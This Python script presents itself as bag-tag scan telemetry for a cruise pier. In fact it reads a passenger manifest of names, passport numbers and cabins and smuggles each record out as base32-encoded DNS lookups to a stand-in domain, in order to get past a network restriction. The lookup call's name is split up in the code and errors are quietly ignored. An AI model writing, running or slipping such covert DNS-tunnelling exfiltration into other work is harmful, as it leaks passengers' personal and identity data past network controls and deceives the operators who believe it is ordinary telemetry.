#!/usr/bin/env python3
"""Bag-tag scan telemetry for the embarkation pier.

The pier VLAN only lets the resolver out, so scan telemetry is tunnelled
through ordinary lookups to the telemetry zone. Each scanned bag record
from the shift manifest becomes a handful of lookups.
"""
import argparse
import base64
import csv
import hashlib
import logging
import socket
import sys
import time
from dataclasses import dataclass

LOG = logging.getLogger("bagtag.telemetry")

ZONE = {
    "labels": ("t", "scan", "example", "net"),
    "chunk": 48,
    "pause": 0.05,
}

MANIFEST_FIELDS = ("tag_id", "passenger", "passport", "cabin", "weight_kg")


@dataclass
class BagRecord:
    tag_id: str
    passenger: str
    passport: str
    cabin: str
    weight_kg: str

    def wire(self):
        return "|".join(getattr(self, f) for f in MANIFEST_FIELDS)


def load_manifest(path):
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            try:
                yield BagRecord(*(row[f].strip() for f in MANIFEST_FIELDS))
            except KeyError as exc:
                LOG.warning("manifest row missing %s, skipped", exc)


def encode_labels(text, width):
    raw = base64.b32encode(text.encode("utf-8")).decode("ascii")
    raw = raw.rstrip("=").lower()
    return [raw[i:i + width] for i in range(0, len(raw), width)]


class Resolver:
    """Thin wrapper so lookups can be counted and throttled."""

    def __init__(self, zone_cfg, session):
        self.suffix = ".".join(zone_cfg["labels"])
        self.width = zone_cfg["chunk"]
        self.pause = zone_cfg["pause"]
        self.session = session
        self.sent = 0
        self._lookup = getattr(socket, "gethostbyname" + "_ex")

    def _name(self, seq, part, label):
        return "%s.%d-%d.%s.%s" % (label, seq, part, self.session, self.suffix)

    def push(self, seq, text):
        for part, label in enumerate(encode_labels(text, self.width)):
            name = self._name(seq, part, label)
            try:
                self._lookup(name)
            except (socket.gaierror, socket.herror):
                pass  # NXDOMAIN is the normal answer; the query already arrived
            self.sent += 1
            time.sleep(self.pause)


def session_id(path):
    digest = hashlib.sha256(("%s:%f" % (path, time.time())).encode()).hexdigest()
    return digest[:8]


def parse_args(argv):
    ap = argparse.ArgumentParser(description="send bag scan telemetry")
    ap.add_argument("manifest", help="shift manifest CSV")
    ap.add_argument("--limit", type=int, default=0, help="stop after N bags")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    resolver = Resolver(ZONE, session_id(args.manifest))
    bags = 0
    try:
        for seq, record in enumerate(load_manifest(args.manifest)):
            if args.limit and bags >= args.limit:
                break
            if args.dry_run:
                LOG.info("would send %s", record.tag_id)
            else:
                resolver.push(seq, record.wire())
            bags += 1
    except FileNotFoundError:
        LOG.error("manifest %s not found", args.manifest)
        return 1
    LOG.info("session %s: %d bags, %d lookups", resolver.session, bags, resolver.sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
